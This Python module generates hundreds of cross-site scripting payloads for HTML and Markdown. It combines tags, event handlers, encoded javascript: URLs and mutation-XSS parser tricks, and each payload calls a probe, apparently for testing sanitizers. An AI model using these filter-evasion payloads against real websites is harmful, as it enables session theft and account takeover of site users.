"""Texts that try to run a script, each calling `CALL`: made by combining what is known to work.

No payload is copied from anywhere; they are products of tags, handlers, quotes and encodings,
and of the ways in which Markdown makes links, pictures and blocks.
"""

from collections.abc import Iterator
from functools import cache
from itertools import chain, product
from typing import Final

CALL: Final = "top.fired(ID)"
_LOADS_BADLY: Final = (
    "<img src=x {on}>",
    "<img src='x' {on}>",
    "<img/src=x/{on}>",
    "<IMG SRC=x {on}>",
    "<image src=x {on}>",
    "<video><source src=x {on}></video>",
    "<audio src=x {on}></audio>",
    "<video src=x {on}></video>",
    "<object data=x {on}></object>",
    "<input type=image src=x {on}>",
    "<link rel=stylesheet href=x {on}>",
    "<script src=x {on}></script>",
    "<svg><image href=x {on}></image></svg>",
    "<picture><source srcset=x><img src=x {on}></picture>",
)
_LOADS_WELL: Final = (
    "<svg {on}></svg>",
    "<svg><g {on}></g></svg>",
    "<svg/{on}>",
    "<SvG {on}>",
    "<iframe {on}></iframe>",
    "<iframe src='about:blank' {on}></iframe>",
    "<body {on}>",
    "<style {on}>p{{}}</style>",
    "<math><mtext><iframe {on}></iframe></mtext></math>",
    "<table><td><iframe {on}></iframe></td></table>",
)
_POINTED_AT: Final = ("a", "b", "p", "div", "span", "td", "button", "marquee", "xss", "h1", "li")
_POINTS: Final = ("onclick", "onmouseover", "onpointerdown", "onmouseenter", "ondblclick")
_FOCUSED: Final = (
    "<input {on} autofocus>",
    "<textarea {on} autofocus></textarea>",
    "<select {on} autofocus><option>x</select>",
    "<a href=# {on} autofocus>x</a>",
    "<div tabindex=0 {on} autofocus>x</div>",
    "<button {on} autofocus>x</button>",
    "<details open {on}>x</details>",
    "<div contenteditable {on}>x</div>",
)
_HANDLERS: Final = (
    'on{event}="{call}"',
    "on{event}='{call}'",
    "on{event}={call}",
    "ON{event} = {call}",
    "on{event}=\n{call}",
    "x='>' on{event}={call}",
)
_ADDRESSES: Final = (
    "javascript:{call}",
    "JavaScript:{call}",
    "jAvAsCrIpT:{call}",
    " javascript:{call}",
    "\tjavascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "java&#x0A;script:{call}",
    "java&Tab;script:{call}",
    "javascript&colon;{call}",
    "javascript&#58;{call}",
    "&#106;avascript:{call}",
    "&#x6A&#x61vascript:{call}",
    "javascript:/*x*/{call}",
    "javascript://%0A{call}",
    "javascript:void({call})",
    "\x01javascript:{call}",
    "&#1;javascript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuZmlyZWQoMCk8L3NjcmlwdD4=",
    "vbscript:{call}",
    "javascript:{call}//https://example.org",
)
_LINKS: Final = (
    '<a href="{url}">x</a>',
    "<a href='{url}'>x</a>",
    '<svg><a href="{url}"><text y=20>x</text></a></svg>',
    '<svg><a xlink:href="{url}"><text y=20>x</text></a></svg>',
    '<form action="{url}"><button>x</button></form>',
    '<button form=f formaction="{url}">x</button><form id=f></form>',
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<area href="{url}">',
    '<math href="{url}">x</math>',
    '<base href="{url}"><a href="/">x</a>',
    '<meta http-equiv=refresh content="0;url={url}">',
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "t")',
    "![x]({url})",
    "<{url}>",
    "[x][r]\n\n[r]: {url}",
    "[x]: {url}\n\n[x]",
)
_USUAL_LINKS: Final = (_LINKS[0], "[x]({url})", "![x]({url})", "[x]: {url}\n\n[x]")
_SCRIPTS: Final = (
    "<script>{call}</script>",
    "<SCRIPT>{call}</SCRIPT>",
    "<script\n>{call}</script\n>",
    "<script/x>{call}</script>",
    "<script type=module>{call}</script>",
    "<<script>{call}//<</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<svg><script>{call}</script></svg>",
    "<svg><script>{entities}</script></svg>",
    "<svg><script href='data:,{call}' />",
    "<math><mi><script>{call}</script></mi></math>",
    "<noscript><p title='</noscript><script>{call}</script>'>",
    "<textarea></textarea><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "--><script>{call}</script>",
    "<!--><script>{call}</script>",
    "<!-- --!><script>{call}</script>",
    "<style></style><script>{call}</script>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{call}&lt;/script&gt;'></iframe>",
    "<template><script>{call}</script></template>",
    "<object data='data:text/html,<script>{call}</script>'></object>",
    "<p><script>{call}</script></p>",
    "> <script>{call}</script>",
    "- <script>{call}</script>",
    "1. <script>{call}</script>",
    "| a |\n|---|\n| <script>{call}</script> |",
    "*<script>{call}</script>*",
    "`x`<script>{call}</script>",
    "<div>\n<script>{call}</script>\n</div>",
    "<p\n\n<script>{call}</script>",
)
# What a cleaner could put together while it takes apart, or a parser reads twice.
_MUTANTS: Final = (
    "<svg></p><style><a id='</style><img src=x onerror={call}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={call}>",
    "<noembed><img title='</noembed><img src=x onerror={call}>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror={call}>'></xmp>",
    "<select><style></select><img src=x onerror={call}></style></select>",
    "<table><caption><svg><style><img src=x onerror={call}></style></svg></caption></table>",
    "<svg><desc><img src=x onerror={call}></desc></svg>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>",
    "<img alt='`><img src=x onerror={call}>'>",
    "<a title='&quot;><img src=x onerror={call}>'>x</a>",
    "![`](x)`><img src=x onerror={call}>",
    '![x](x"onerror="{call})',
    '![x" onerror="{call}](x)',
    "![x](x 'y\" onerror=\"{call}')",
    '[x](x"onclick="{call})',
    "[x](# 'y\" onclick=\"{call}')",
    "[<img src=x onerror={call}>](#)",
    "[x](#)<img src=x onerror={call}>",
    "![<img src=x onerror={call}>](x)",
    '<https://x/"onclick="{call}>',
    "\\<img src=x onerror={call}>",
    "&lt;img src=x onerror={call}&gt;",
    "&amp;lt;img src=x onerror={call}&gt;",
    "<img src=x onerror\x00={call}>",
    "<im\x00g src=x onerror={call}>",
    "<img src=x onerror={entities}>",
    "``<img src=x onerror={call}>`",
    "    <img src=x onerror={call}>",
    "~~~\n<img src=x onerror={call}>\n~~~",
    "<details ontoggle={call} open><summary>x</summary></details>",
    "<style>@keyframes k{{}}</style><p style=animation-name:k onanimationstart={call}>x</p>",
    "<p style='animation:x' onanimationstart={call}>x</p>",
    "<marquee onstart={call}>x</marquee>",
    "<dialog open onclose={call}><form method=dialog><button>x</button></form></dialog>",
    "<svg><animate onbegin={call} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={call} attributeName=x></svg>",
    "<svg><a><animate attributeName=href values='javascript:{call}' /><text>x</text></a></svg>",
    "<video autoplay oncanplay={call} src='data:,'></video>",
    "<body onpageshow={call}>",
    "<body onhashchange={call}><a href=#x>x</a>",
)  # fmt: skip


@cache
def payloads() -> tuple[str, ...]:
    """Return every payload once; `ID` in it is for its number."""
    return tuple(dict.fromkeys((*_of_handlers(), *_of_addresses(), *_of_markup())))


def _of_handlers() -> Iterator[str]:
    for shapes, event in ((_LOADS_BADLY, "error"), (_LOADS_WELL, "load"), (_FOCUSED, "focus")):
        for handler, shape in product(_HANDLERS, shapes):
            yield shape.format(on=handler.format(event=event, call=CALL))
    for tag, event in product(_POINTED_AT, _POINTS):
        yield f"<{tag} {event}={CALL}>x</{tag}>"


def _of_addresses() -> Iterator[str]:
    """Every address in some links, and some addresses in every link."""
    pairs = chain(product(_ADDRESSES, _USUAL_LINKS), product(_ADDRESSES[:3], _LINKS))
    for address, shape in pairs:
        yield shape.format(url=address.format(call=CALL))


def _of_markup() -> Iterator[str]:
    entities = "".join(f"&#{ord(sign)};" for sign in CALL)
    for shape in (*_SCRIPTS, *_MUTANTS):
        yield shape.format(call=CALL, entities=entities)
